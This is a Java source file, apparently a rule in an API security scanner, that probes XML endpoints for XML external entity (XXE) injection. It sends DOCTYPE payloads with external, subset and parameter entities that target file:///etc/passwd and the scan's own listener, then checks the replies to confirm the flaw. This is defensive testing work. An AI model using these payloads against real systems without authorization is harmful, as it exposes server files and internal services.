package dev.sinew.probe.proof.inject;

import dev.sinew.model.Maturity;
import dev.sinew.model.Rule;
import dev.sinew.model.Severity;
import dev.sinew.probe.http.Ask;
import dev.sinew.probe.http.Carrier;
import dev.sinew.probe.http.Header;
import dev.sinew.probe.http.Listener;
import dev.sinew.probe.http.Reply;
import dev.sinew.probe.oracle.Fresh;
import dev.sinew.probe.place.EachSlot;
import dev.sinew.probe.run.Endpoint;
import dev.sinew.probe.run.Filled;
import dev.sinew.probe.run.Manner;
import dev.sinew.probe.run.Outcome;
import dev.sinew.probe.run.Persona;
import dev.sinew.probe.run.Proof;
import dev.sinew.probe.run.Trial;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * A document's own entities are fetched from where it says: whoever writes the document reads files of the server, or reaches what only the server reaches.
 *
 * <p>Proved on operations that take XML, also as a file where the path or the summary speaks of XML, with documents whose only element means nothing to the application: the run's own listener is called with the token
 * that stands in the document, and with another token for a second one; or the answer has the list of accounts of a Unix system ({@code root:…:0:0:}) for an entity
 * that names that file, twice, and not for one that names a file that does not exist. That an entity of the document itself is put in ({@code <!ENTITY e "text">}) is
 * no proof: it reaches nothing.
 *
 * <p>To fix it, switch off document type declarations in the parser.
 */
@Rule(
        id = "probe.xxe",
        flaw = "xxe",
        title = "Entities of a document are fetched from where it says",
        severity = Severity.HIGH,
        maturity = Maturity.PREVIEW,
        owasp = {"API8:2023"},
        cwe = {611},
        standards = {"PCI-DSS-4.0.1 6.2.4"})
public final class Xxe implements Proof {
    /** Documents with an entity, an external subset and a parameter entity at an address. */
    private static final List<String> DOCUMENTS = List.of(
            "<?xml version=\"1.0\"?><!DOCTYPE sinew [<!ENTITY e SYSTEM \"%s\">]><sinew>&e;</sinew>",
            "<?xml version=\"1.0\"?><!DOCTYPE sinew SYSTEM \"%s\"><sinew/>",
            "<?xml version=\"1.0\"?><!DOCTYPE sinew [<!ENTITY %% e SYSTEM \"%s\"> %%e;]><sinew/>");

    private static final Pattern XML = Pattern.compile("(?i)(?<![a-z])xml(?![a-z])");

    private static final String ACCOUNTS = "file:///etc/passwd";

    @Override
    public Manner manner() {
        return Manner.MEANING;
    }

    @Override
    public boolean needsProvenIdentity() {
        return false;
    }

    @Override
    public boolean isWriting() {
        return true;
    }

    @Override
    public boolean isOfAddress() {
        return true;
    }

    @Override
    public Optional<Outcome> prove(Endpoint endpoint, Trial trial) {
        Optional<String> type = endpoint.described()
                .requestBody()
                .flatMap(body -> body.content().keySet().stream()
                        .filter(each -> each.endsWith("xml"))
                        .findFirst());
        Optional<String> file = type.isEmpty() && speaksOfXml(endpoint) ? trial.file(endpoint) : Optional.empty();
        if (type.or(() -> file).isEmpty()
                || trial.fixtures().isEmpty()
                || !endpoint.operation().method().equals("POST")) {
            return Optional.empty();
        }
        for (Persona persona : trial.personas()) {
            List<Filled> fillings = trial.fillings(endpoint, persona);
            if (!fillings.isEmpty()) {
                return Optional.of(new Sending(fillings.getFirst(), type, file, persona, trial).judge());
            }
        }
        return Optional.of(Outcome.inconclusive("no request to it can be made"));
    }

    private static boolean speaksOfXml(Endpoint endpoint) {
        return Stream.of(endpoint.path(), endpoint.summary(), endpoint.sentence())
                .anyMatch(each -> XML.matcher(each).find());
    }

    /**
     * Documents that are sent.
     *
     * @param type the type of a body that is a document
     * @param file else the member that is a file
     */
    private record Sending(Filled filled, Optional<String> type, Optional<String> file, Persona persona, Trial trial) {
        Outcome judge() {
            Optional<Outcome> read = read();
            if (read.isPresent()) {
                return read.get();
            }
            Listener listener = trial.listener();
            if (!listener.unreachable().isEmpty()) {
                return Outcome.inconclusive(listener.unreachable());
            }
            List<String> tokens = new ArrayList<>();
            for (String document : DOCUMENTS) {
                tokens.add(Fresh.word());
                Optional<Reply> reply = called(document, tokens.getLast());
                if (reply.isEmpty() || EachSlot.isDisturbed(reply.get())) {
                    return reply.map(EachSlot::disturbed)
                            .orElseGet(() -> Outcome.inconclusive("no listener could be started"));
                }
            }
            return listener.called(tokens, Listener.PATIENCE)
                    .map(token -> again(DOCUMENTS.get(tokens.indexOf(token))))
                    .orElseGet(() -> Outcome.refuted("neither a file came back nor was the listener called"));
        }

        private Optional<Outcome> read() {
            Ask ask = ask(DOCUMENTS.getFirst().formatted(ACCOUNTS));
            Reply reply = send(ask);
            if (EachSlot.isDisturbed(reply)) {
                return Optional.of(EachSlot.disturbed(reply));
            }
            if (!KnownFiles.isAccounts(reply.text())) {
                return Optional.empty();
            }
            Ask none = ask(DOCUMENTS.getFirst().formatted(ACCOUNTS + Fresh.word()));
            return Optional.of(
                    KnownFiles.isAccounts(send(ask).text())
                                    && !KnownFiles.isAccounts(send(none).text())
                            ? Outcome.confirmed(
                                    "an entity that names a file of the server brings it, twice, and none where there is no such file",
                                    List.of(new Outcome.Step(persona.session(), ask, "the file comes back")))
                            : Outcome.inconclusive(
                                    "a known file came back once and not again, or also where none was named"));
        }

        private Outcome again(String document) {
            String token = Fresh.word();
            called(document, token);
            return trial.listener().called(List.of(token), Listener.PATIENCE).isPresent()
                    ? Outcome.confirmed(
                            "the parser called the run's own listener with the token of each of two documents",
                            List.of(new Outcome.Step(
                                    persona.session(),
                                    ask(document.formatted("http://127.0.0.1:8000/token")),
                                    "the parser calls that address")))
                    : Outcome.inconclusive("the listener was called once and not again");
        }

        private Optional<Reply> called(String document, String token) {
            return trial.listener().address(token).map(each -> send(ask(document.formatted("http://" + each))));
        }

        private Reply send(Ask ask) {
            return trial.askOdd(ask, persona.session());
        }

        private Ask ask(String document) {
            if (type.isEmpty()) {
                ObjectNode members = trial.whole(filled, persona)
                        .filter(each -> !each.body().isEmpty())
                        .map(each -> (ObjectNode) JsonMapper.shared().readTree(each.body()))
                        .orElseGet(() -> JsonMapper.shared().createObjectNode());
                members.putObject(file.orElseThrow())
                        .put(Carrier.FILE, document)
                        .put(Carrier.TYPE, "text/xml");
                return filled.ask(members.toString());
            }
            Ask bare = filled.ask();
            return new Ask(bare.method(), bare.path(), List.of(new Header("Content-Type", type.get())), document);
        }
    }
}
